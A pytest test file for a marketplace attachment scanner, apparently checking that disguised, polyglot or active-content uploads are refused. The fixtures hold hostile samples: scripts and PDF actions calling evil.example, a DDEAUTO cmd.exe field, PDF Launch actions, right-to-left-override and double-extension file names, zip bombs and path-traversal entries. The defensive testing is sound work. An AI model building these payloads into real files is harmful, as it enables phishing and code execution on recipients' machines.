"""Attachments are judged by their content: compliance.files and the attach.* rules.

Every file here is built by the test (tests/compliance/sample_files.py); none is checked
in. Jordan, a buyer, sends them to Northwind; each refusal must name the file and say why.
"""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter

from compliance.engine import FileFacts, MessageDraft, check_message
from compliance.files import Limits, inspect_file, safe_display_name
from tests.compliance import sample_files as sample


def refusal(name: str, data: bytes, rule: str, *reasons: str, limits: Limits | None = None) -> str:
    """Inspect the file; assert exactly one ``rule`` problem naming the file and giving
    every reason; return its message."""
    report = inspect_file(name, data, **({"limits": limits} if limits else {}))
    messages = report.messages(rule)
    assert len(messages) == 1, report.problems
    [message] = messages
    assert f"“{report.display_name}”" in message, message
    for reason in reasons:
        assert reason.lower() in message.lower(), message
    return message


def passes(name: str, data: bytes) -> None:
    report = inspect_file(name, data)
    assert report.ok, report.problems


# --- files that pass ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "kind", "mime"),
    [
        (
            "assembly notes.txt",
            lambda: b"Step 1: unpack the tent.\r\nStep 2: stake it.\n",
            "txt",
            "text/plain; charset=utf-8",
        ),
        (
            "care.txt",
            lambda: "\ufeffLavez à 30 °C — merci\n".encode(),
            "txt",
            "text/plain; charset=utf-8",
        ),
        (
            "care-utf16.txt",
            lambda: "\ufeffWash at 30 °C\n".encode("utf-16-le"),
            "txt",
            "text/plain; charset=utf-16",
        ),
        (
            "export.txt",
            lambda: b'<?xml version="1.0"?><order id="1001"><line qty="2"/></order>',
            "txt",
            "text/plain; charset=utf-8",
        ),
        ("empty.txt", lambda: b"", "txt", "text/plain; charset=utf-8"),
        ("invoice.pdf", sample.simple_pdf, "pdf", "application/pdf"),
        ("manual.pdf", lambda: sample.sized_pdf(200_000), "pdf", "application/pdf"),
        (
            "linked.pdf",
            lambda: sample.simple_pdf(
                b"/OpenAction [3 0 R /Fit]", (b"<< /S /URI /URI (https://marketplace.example/) >>",)
            ),
            "pdf",
            "application/pdf",
        ),
        (
            "warranty.docx",
            sample.docx,
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "warranty-with-photo.docx",
            lambda: sample.docx_with(
                {
                    "word/media/image1.png": sample.image("PNG"),
                    "word/printerSettings/printerSettings1.bin": b"\x00\x01" * 200,
                }
            ),
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("legal.doc", sample.word97, "doc", "application/msword"),
        ("photo.jpg", lambda: sample.image("JPEG"), "jpeg", "image/jpeg"),
        (
            "photo.JPEG",
            lambda: sample.image("JPEG", quality=60, progressive=True),
            "jpeg",
            "image/jpeg",
        ),
        ("label.png", lambda: sample.image("PNG"), "png", "image/png"),
        ("spinner.gif", lambda: animated_gif(4), "gif", "image/gif"),
        ("logo.bmp", lambda: sample.image("BMP"), "bmp", "image/bmp"),
        ("scan.tif", lambda: multipage_tiff(3), "tiff", "image/tiff"),
        (
            "scan.tiff",
            lambda: sample.image("TIFF", compression="tiff_deflate"),
            "tiff",
            "image/tiff",
        ),
    ],
)
def test_genuine_files_of_every_allowed_type_pass(name, build, kind, mime):
    report = inspect_file(name, build())
    assert report.ok, report.problems
    assert (report.kind, report.mime_type) == (kind, mime)
    assert report.display_name == name


def test_a_jpeg_with_harmless_bytes_after_its_end_passes():
    # Phones append their own trailers after the image; only other files are refused.
    passes("holiday.jpg", sample.image("JPEG") + b"\x00" * 64 + b"SEFHcamera-data")


def animated_gif(frames: int) -> bytes:
    pictures = [Image.new("RGB", (32, 32), (colour * 30, 90, 200)) for colour in range(frames)]
    buffer = io.BytesIO()
    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=50)
    return buffer.getvalue()


def multipage_tiff(pages: int) -> bytes:
    pictures = [Image.new("RGB", (40, 30), (colour * 40, 0, 0)) for colour in range(pages)]
    buffer = io.BytesIO()
    pictures[0].save(buffer, "TIFF", save_all=True, append_images=pictures[1:])
    return buffer.getvalue()


# --- the type is decided by content --------------------------------------------------------


def test_a_png_named_pdf_is_refused_as_not_matching():
    refusal(
        "invoice.pdf",
        sample.image("PNG"),
        "attach.content",
        "is not a PDF",
        "its content is a PNG image",
    )


def test_a_zip_named_pdf_is_refused_as_a_type_not_allowed():
    refusal(
        "invoice.pdf",
        sample.zip_archive({"invoice.pdf": b"%PDF-1.7"}),
        "attach.type",
        "is not a PDF",
        "ZIP archive",
        "not an allowed file type",
    )


def test_a_program_named_jpg_is_refused():
    program = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
    refusal("photo.jpg", program, "attach.type", "is not a JPEG image", "Windows program")


def test_a_jpeg_named_png_is_refused():
    refusal("label.png", sample.image("JPEG"), "attach.content", "is not a PNG image", "JPEG image")


def test_a_word_97_file_named_docx_is_refused():
    refusal(
        "contract.docx",
        sample.word97(),
        "attach.content",
        "is not a Word document (.docx)",
        "Word 97-2003",
    )


def test_an_html_page_named_pdf_is_refused():
    refusal(
        "invoice.pdf",
        b"<!DOCTYPE html><html><body>Pay here</body></html>",
        "attach.type",
        "is not a PDF",
        "web page",
    )


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("setup.exe", ".exe files cannot be attached"),
        ("archive.zip", ".zip files cannot be attached"),
        ("page.html", ".html files cannot be attached"),
        ("README", "has no file extension"),
    ],
)
def test_extensions_not_on_the_list_are_refused(name, reason):
    refusal(name, b"anything", "attach.type", reason, ".pdf, .doc, .docx")


def test_empty_files_are_refused_except_text():
    refusal("invoice.pdf", b"", "attach.content", "is empty")


# --- polyglots ---------------------------------------------------------------------------


def test_a_gif_with_a_script_appended_is_refused():
    refusal(
        "smile.gif",
        sample.image("GIF") + b"<script>alert(document.cookie)</script>",
        "attach.content",
        "also carries a script",
    )


def test_a_gif_with_a_script_in_a_comment_is_refused():
    refusal(
        "smile.gif",
        sample.image("GIF", comment=b"<script src=//evil.example></script>"),
        "attach.content",
        "also carries a script",
    )


def test_a_jpeg_with_a_zip_appended_is_refused():
    hidden = sample.zip_archive({"payload.js": b"WScript.Shell"})
    refusal(
        "photo.jpg", sample.image("JPEG") + hidden, "attach.content", "also carries a ZIP archive"
    )


def test_a_png_with_a_pdf_header_inside_is_refused():
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "%PDF-1.4 1 0 obj")
    refusal(
        "label.png",
        sample.image("PNG", pnginfo=info),
        "attach.content",
        "also carries a PDF document",
    )


def test_a_pdf_with_a_zip_appended_is_refused():
    hidden = sample.zip_archive({"run.bat": b"calc.exe"})
    refusal(
        "invoice.pdf",
        sample.simple_pdf(tail=hidden),
        "attach.content",
        "PDF that also carries a ZIP archive",
    )


def test_a_pdf_with_html_after_its_end_is_refused():
    refusal(
        "invoice.pdf",
        sample.simple_pdf(tail=b"<html><script>x()</script></html>"),
        "attach.content",
        "also carries",
        "script",
    )


def test_a_bmp_with_an_executable_appended_is_refused():
    refusal(
        "logo.bmp",
        sample.image("BMP") + b"MZ\x90\x00" + b"\x00" * 60,
        "attach.content",
        "Windows program",
    )


def test_a_pdf_with_something_before_its_header_is_refused():
    refusal(
        "invoice.pdf",
        b"<html><body>hi</body></html>\n" + sample.simple_pdf(),
        "attach.type",
        "is not a PDF",
    )
    refusal("invoice.pdf", b"%PDF-" + b"\x00" * 3 + b"junk", "attach.content", "end-of-file marker")


# --- Word (.docx) ------------------------------------------------------------------------


def test_a_docx_with_a_vba_project_is_refused_as_macros():
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    refusal(
        "warranty.docx",
        sample.docx_with({"word/vbaProject.bin": vba}),
        "attach.content",
        "contains macros",
        "word/vbaProject.bin",
    )


def test_a_docm_renamed_docx_is_refused():
    docm = sample.docx(
        **{
            "[Content_Types].xml": sample.content_types(
                sample.WORD_MACRO_MAIN,
                f'<Override PartName="/word/vbaData.xml" ContentType="{sample.VBA_PROJECT}"/>',
            )
        }
    )
    refusal("warranty.docx", docm, "attach.content", "macro-enabled document (.docm)")


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ({"word/activeX/activeX1.xml": b"<ax/>"}, "ActiveX controls"),
        (
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64},
            "embedded objects (word/embeddings/oleObject1.bin)",
        ),
        (
            {"word/media/photos.zip": sample.zip_archive({"a.jpg": b"x"})},
            "word/media/photos.zip is a ZIP archive",
        ),
        ({"word/media/setup.png": b"MZ\x90\x00" + b"\x00" * 100}, "is a Windows program"),
        (
            {
                "word/_rels/settings.xml.rels": sample.relationships(
                    ("attachedTemplate", "http://evil.example/macro.dotm", "External")
                )
            },
            "attachedTemplate: http://evil.example/macro.dotm",
        ),
        (
            {
                "word/document.xml": sample.document_xml(
                    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO '
                    'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
                )
            },
            "DDE field",
        ),
        (
            {
                "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaa">]>'
                b"<w:document/>"
            },
            "DTD",
        ),
    ],
)
def test_active_content_in_a_docx_is_refused(parts, reason):
    refusal("warranty.docx", sample.docx_with(parts), "attach.content", reason)


@pytest.mark.parametrize(
    "entry", ["../../evil.txt", "/etc/cron.d/evil", "word\\..\\evil.xml", "C:/Windows/evil.dll"]
)
def test_docx_entries_that_point_outside_are_refused(entry):
    refusal(
        "warranty.docx",
        sample.docx_with({entry: b"x"}),
        "attach.content",
        "point outside the document",
        entry,
    )


def test_a_zip_that_is_not_a_word_package_is_refused_as_a_zip():
    refusal(
        "warranty.docx",
        sample.zip_archive({"[Content_Types].xml": b"<Types/>", "notes.txt": b"hi"}),
        "attach.type",
        "is not a Word document (.docx)",
        "ZIP archive",
    )


def test_a_word_template_is_not_a_document():
    template = sample.docx(
        **{
            "[Content_Types].xml": sample.content_types(
                sample.WORD_MAIN.replace("document.main", "template.main")
            )
        }
    )
    refusal("warranty.docx", template, "attach.content", "is not a Word document", "template.main")


def test_a_zip_bomb_is_refused_by_its_compression_ratio():
    bomb = sample.docx_with({"word/media/filler.xml": b"\x00" * 30_000_000})
    started = time.perf_counter()
    refusal(
        "warranty.docx", bomb, "attach.content", "ZIP bomb", "100 times", "word/media/filler.xml"
    )
    assert time.perf_counter() - started < 1  # stopped early, not inflated to the end


def test_a_zip_bomb_is_refused_by_its_unpacked_total():
    # Ordinary ratios, too much in total (limits made small to keep the test quick).
    parts = {f"word/media/part{i}.xml": bytes(range(256)) * 4000 for i in range(8)}
    limits = Limits(max_unpacked_bytes=4 * 1024 * 1024)
    refusal(
        "warranty.docx",
        sample.docx_with(parts),
        "attach.content",
        "unpacks to more than 4 MB",
        "ZIP bomb",
        limits=limits,
    )


def test_a_zip_whose_headers_lie_about_sizes_is_judged_by_what_it_inflates_to():
    bomb = sample.docx_with({"word/big.xml": b"\x00" * 30_000_000})
    liar = sample.lie_about_sizes(bomb, "word/big.xml", 1000)
    refusal("warranty.docx", liar, "attach.content", "ZIP bomb", "word/big.xml")


def test_a_zip_whose_headers_lie_about_a_small_entry_is_refused_as_invalid():
    liar = sample.lie_about_sizes(sample.docx(), "word/document.xml", 10)
    refusal(
        "warranty.docx",
        liar,
        "attach.content",
        "not a valid Word document",
        "claims word/document.xml holds 10 bytes",
    )


def test_a_zip_with_too_many_entries_is_refused():
    parts = {f"word/media/image{i}.png": b"x" for i in range(30)}
    refusal(
        "warranty.docx",
        sample.docx_with(parts),
        "attach.content",
        "more than 20",
        limits=Limits(max_zip_entries=20),
    )


def test_a_zip_with_encrypted_entries_is_refused():
    package = bytearray(sample.docx())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = package.find(signature)
        struct.pack_into("<H", package, position + flags_at, 1)
    refusal("warranty.docx", bytes(package), "attach.content", "encrypted parts")


def test_a_zip_with_data_after_it_is_refused():
    refusal(
        "warranty.docx",
        sample.docx() + b"<html><script>x()</script>",
        "attach.content",
        "data before or after its ZIP package",
    )


def test_a_zip_whose_entries_share_data_is_refused():
    # Two directory entries pointing at one local header: the "overlapping files" bomb.
    package = sample.docx()
    archive = zipfile.ZipFile(io.BytesIO(package))
    first = archive.infolist()[0]
    central = package.find(b"PK\x01\x02")
    second = package.find(b"PK\x01\x02", central + 4)
    patched = bytearray(package)
    struct.pack_into("<I", patched, second + 42, first.header_offset)
    refusal("warranty.docx", bytes(patched), "attach.content", "not a valid Word document")


# --- Word 97-2003 (.doc) ---------------------------------------------------------------


def test_a_doc_with_vba_macros_is_refused():
    document = sample.word97(Macros={"VBA": {"dir": b"\x01" * 10, "ThisDocument": b"x"}})
    refusal("legal.doc", document, "attach.content", "contains macros (Macros)")


def test_a_doc_with_a_vba_project_storage_is_refused():
    document = sample.word97(_VBA_PROJECT_CUR={"VBA": {"dir": b"\x01"}})
    refusal("legal.doc", document, "attach.content", "contains macros")


def test_a_doc_with_embedded_objects_is_refused():
    document = sample.word97(ObjectPool={"_1234": {"\x01Ole10Native": b"MZ payload"}})
    refusal("legal.doc", document, "attach.content", "embedded objects (ObjectPool)")


def test_an_encrypted_doc_is_refused():
    document = sample.compound_file(
        {"WordDocument": sample.word_fib(encrypted=True), "1Table": b"\x00"}
    )
    refusal("legal.doc", document, "attach.content", "password-protected")


def test_a_compound_file_that_is_not_word_is_refused():
    spreadsheet = sample.compound_file({"Workbook": b"\x09\x08" + b"\x00" * 100})
    refusal("legal.doc", spreadsheet, "attach.type", "is not a Word 97-2003 document", "Excel")


def test_a_damaged_doc_is_refused():
    refusal("legal.doc", sample.word97()[:1600], "attach.content", "not a readable Word document")


# --- PDF -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "objects", "reason"),
    [
        (b"/OpenAction 6 0 R", (b"<< /S /JavaScript /JS (app.alert('hi')) >>",), "JavaScript"),
        (b"/OpenAction 6 0 R", (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",), "JavaScript"),
        (
            b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
            (b"<< /S /JavaScript /JS (this.print()) >>",),
            "JavaScript",
        ),
        (
            b"/OpenAction 6 0 R",
            (b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>",),
            "launches programs",
        ),
        (b"/OpenAction 6 0 R", (b"<< /S /L#61unch /F (cmd.exe) >>",), "launches programs"),
        (
            b"/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >>",
            (
                b"<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>",
                sample.stream(b"MZ payload", b"/Type /EmbeddedFile"),
            ),
            "embedded files",
        ),
        (b"/AcroForm << /Fields [] /XFA 6 0 R >>", (sample.stream(b"<xdp/>"),), "XFA form"),
        (
            b"/OpenAction 6 0 R",
            (b"<< /S /SubmitForm /F (https://evil.example/) >>",),
            "sends data away",
        ),
        (b"/OpenAction 6 0 R", (b"<< /S /ImportData /F (data.fdf) >>",), "imports data"),
        (
            b"/OpenAction 6 0 R",
            (b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>",),
            "links into other files",
        ),
        (b"/OpenAction 6 0 R", (b"<< /S /URI /URI (javascript:alert(1)) >>",), "runs a script"),
        (
            b"/OpenAction 6 0 R",
            (b"<< /S /URI /URI <6A617661736372697074 3A616C6572742831 29> >>",),
            "runs a script",
        ),
    ],
)
def test_active_content_in_a_pdf_is_refused(extra, objects, reason):
    refusal("invoice.pdf", sample.simple_pdf(extra, objects), "attach.content", reason, "plain PDF")


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    hidden = b"/OpenAction << /S /JavaScript /JS (app.launchURL('https://evil.example')) >>"
    document = sample.pdf_with_object_stream(hidden)
    assert b"JavaScript" not in document  # only a reader that inflates the stream sees it
    refusal("invoice.pdf", document, "attach.content", "JavaScript")
    passes("invoice.pdf", sample.pdf_with_object_stream(b""))


def test_a_pdf_locked_with_a_password_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    refusal("invoice.pdf", buffer.getvalue(), "attach.content", "password-protected")


def test_a_pdf_with_only_permission_encryption_is_inspected_and_passes():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    passes("invoice.pdf", buffer.getvalue())


def test_an_unreadable_pdf_is_refused():
    broken = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\n%%EOF\n"
    refusal("invoice.pdf", broken, "attach.content", "could not be read as a PDF")


# --- images ----------------------------------------------------------------------------


def with_png_size(png: bytes, width: int, height: int) -> bytes:
    """The PNG with its header claiming another size (and a valid checksum)."""
    header = b"IHDR" + struct.pack(">II", width, height) + png[24:29]
    return png[:12] + header + struct.pack(">I", zlib.crc32(header)) + png[33:]


def test_an_image_over_the_pixel_cap_is_refused_before_decoding():
    refusal(
        "poster.png",
        with_png_size(sample.image("PNG"), 8000, 6000),
        "attach.content",
        "8000 x 6000 pixels",
        "at most 40 megapixels",
    )


def test_a_decompression_bomb_pillow_refuses_is_a_refusal_too():
    refusal(
        "poster.png",
        with_png_size(sample.image("PNG"), 100_000, 100_000),
        "attach.content",
        "more pixels than an image may have",
    )


def test_a_truncated_image_is_refused():
    photo = sample.image("JPEG", (400, 300))
    refusal("photo.jpg", photo[: len(photo) // 2], "attach.content", "damaged or incomplete")
    label = sample.image("PNG", (400, 300))
    refusal("label.png", label[: len(label) // 2], "attach.content", "damaged or incomplete")


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("spinner.gif", lambda: animated_gif(6)),
        ("scan.tiff", lambda: multipage_tiff(6)),
    ],
)
def test_too_many_frames_or_pages_are_refused(name, build):
    refusal(
        name, build(), "attach.content", "more than 5 frames or pages", limits=Limits(max_frames=5)
    )


def test_a_jpeg_with_thousands_of_scans_is_refused():
    photo = sample.image("JPEG")
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 4
    end = photo.rfind(b"\xff\xd9")
    flood = photo[:end] + scan * 150 + b"\xff\xd9"
    refusal("photo.jpg", flood, "attach.content", "more than 100 scans")


# --- text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"Order 1001\x00\x00\x00\x01binary", "contains NUL bytes"),
        (b"Order 1001\x1b[31m red", "binary control characters (U+001B"),
        ("Größe: 42".encode("latin-1"), "not UTF-8 or UTF-16 text"),
        (b"<!DOCTYPE html><html><body onload=x()>", "web page or markup"),
        (b"  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "web page or markup"),
        (b"Dear Jordan,\nsee below\n<script>fetch('//evil.example')</script>", "web page"),
        (b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', "web page or markup"),
    ],
)
def test_text_that_is_not_plain_text_is_refused(data, reason):
    refusal("notes.txt", data, "attach.content", reason)


# --- names ------------------------------------------------------------------------------


def test_a_right_to_left_override_in_the_name_is_refused():
    name = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf"
    report = inspect_file(name, b"MZ")
    assert report.display_name == "invoice[U+202E]fdp.exe"
    [hidden, exe] = report.messages("attach.type")
    assert "“invoice[U+202E]fdp.exe”" in hidden and "RIGHT-TO-LEFT OVERRIDE" in hidden
    assert "is a .exe file" in exe


def test_a_right_to_left_override_is_refused_even_with_an_allowed_extension():
    refusal(
        "photo\u202egnp.jpg",
        sample.image("JPEG"),
        "attach.type",
        "U+202E RIGHT-TO-LEFT OVERRIDE",
        "real extension is hidden",
    )


@pytest.mark.parametrize(
    ("name", "reasons"),
    [
        ("invoice.pdf.exe", ("is a .exe file, not a .pdf file",)),
        ("photo.exe.jpg", ("second extension (.exe)",)),
        ("scan.php.png", ("second extension (.php)",)),
        ("scan.PHP.backup.png", ("second extension (.php)",)),
        ("invoice.pdf.jpg", ("two file-type extensions (.pdf and .jpg)",)),
    ],
)
def test_double_extensions_are_refused(name, reasons):
    refusal(name, sample.image("JPEG"), "attach.type", *reasons)


def test_ordinary_dots_in_names_are_fine():
    passes("shop.example.com invoice v1.2.pdf", sample.simple_pdf())
    passes("photo.jpeg.jpg", sample.image("JPEG"))  # the same type twice says nothing false


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../../etc/passwd.txt", "folder path"),
        ("/etc/notes.txt", "folder path"),
        ("C:\\Users\\sam\\notes.txt", "folder path"),
        ("..\\notes.txt", "folder path"),
        ("C:notes.txt", "drive letter"),
        ("CON.txt", "reserves for a device (CON)"),
        ("notes.txt.", "ends with a dot or a space"),
        ("notes\u200b.txt", "U+200B ZERO WIDTH SPACE"),
        ("notes\x07.txt", "control characters"),
        ("n" * 300 + ".txt", "304 characters"),
    ],
)
def test_names_with_tricks_are_refused(name, reason):
    refusal(name, b"Assembly notes\n", "attach.type", reason)


def test_a_file_without_a_name_is_refused():
    [message] = inspect_file("", b"hello").messages("attach.type")
    assert "has no name" in message


def test_safe_display_name_keeps_what_people_wrote_and_drops_header_trouble():
    assert safe_display_name("Quote  “spring”: <2026>.pdf") == "Quote “spring”_ _2026_.pdf"
    assert safe_display_name("Cafe\u0301 menu.pdf") == "Café menu.pdf"
    assert safe_display_name("رسید\u200cخرید.pdf") == "رسید\u200cخرید.pdf"
    with pytest.raises(ValueError, match="folder path"):
        safe_display_name("../x.pdf")


# --- the rules, through check_message ------------------------------------------------------


def draft(*files: FileFacts) -> MessageDraft:
    return MessageDraft(
        sender_side="buyer",
        message_type="buyer_inquiry",
        body="Here are the files for order 1001.",
        attachments=files,
    )


def facts(name: str, data: bytes, reads: list[str] | None = None) -> FileFacts:
    def read() -> bytes:
        if reads is not None:
            reads.append(name)
        return data

    return FileFacts(name=name, size=len(data), read=read)


def attach_violations(verdict) -> dict[str, list]:
    found: dict[str, list] = {}
    for violation in verdict.violations:
        if violation.rule.startswith("attach."):
            found.setdefault(violation.rule, []).append(violation)
    return found


def test_clean_attachments_are_allowed_and_each_file_is_read_once():
    reads: list[str] = []
    verdict = check_message(
        draft(
            facts("invoice.pdf", sample.simple_pdf(), reads),
            facts("photo.jpg", sample.image("JPEG"), reads),
        )
    )
    assert attach_violations(verdict) == {}
    assert reads == ["invoice.pdf", "photo.jpg"]


def test_refused_files_become_findings_on_the_attachments():
    reads: list[str] = []
    verdict = check_message(
        draft(
            facts("warranty.pdf", sample.image("PNG"), reads),
            facts("setup.pdf.exe", b"MZ\x90\x00", reads),
            facts(
                "manual.pdf",
                sample.simple_pdf(b"/OpenAction 6 0 R", (b"<< /S /JavaScript /JS (x) >>",)),
                reads,
            ),
        )
    )
    assert verdict.blocked
    found = attach_violations(verdict)
    assert [v.excerpt for v in found["attach.content"]] == ["warranty.pdf", "manual.pdf"]
    assert [v.excerpt for v in found["attach.type"]] == ["setup.pdf.exe"]
    assert {v.location for vs in found.values() for v in vs} == {"attachments"}
    assert all(v.action == "block" for vs in found.values() for v in vs)
    assert sorted(reads) == ["manual.pdf", "setup.pdf.exe", "warranty.pdf"]


def test_more_than_ten_megabytes_is_attach_size_and_nothing_is_read():
    def unread() -> bytes:
        raise AssertionError("an oversized message's files must not be read")

    big = FileFacts(name="scan.tiff", size=6 * 1024 * 1024, read=unread)
    verdict = check_message(draft(big, FileFacts("scan2.tiff", 5 * 1024 * 1024, unread)))
    found = attach_violations(verdict)
    assert set(found) == {"attach.size"}
    assert "add up to 11.0" in found["attach.size"][0].message


def test_names_are_still_checked_when_the_message_is_too_large():
    def unread() -> bytes:
        raise AssertionError("not read")

    verdict = check_message(draft(FileFacts("invoice.pdf.exe", 11 * 1024 * 1024, unread)))
    found = attach_violations(verdict)
    assert set(found) == {"attach.size", "attach.type"}


def test_a_sixth_file_is_attach_count():
    files = [facts(f"note{i}.txt", b"Assembly notes\n") for i in range(6)]
    found = attach_violations(check_message(draft(*files)))
    assert set(found) == {"attach.count"}
    assert "at most 5" in found["attach.count"][0].message
    assert found["attach.count"][0].excerpt == "note5.txt"


# --- time --------------------------------------------------------------------------------


def test_typical_files_are_checked_quickly():
    document = sample.sized_pdf(1_000_000)
    photo = sample.camera_photo()
    for name, data in (("manual.pdf", document), ("photo.jpg", photo)):
        started = time.perf_counter()
        report = inspect_file(name, data)
        assert report.ok, report.problems
        assert time.perf_counter() - started < 1.0, name
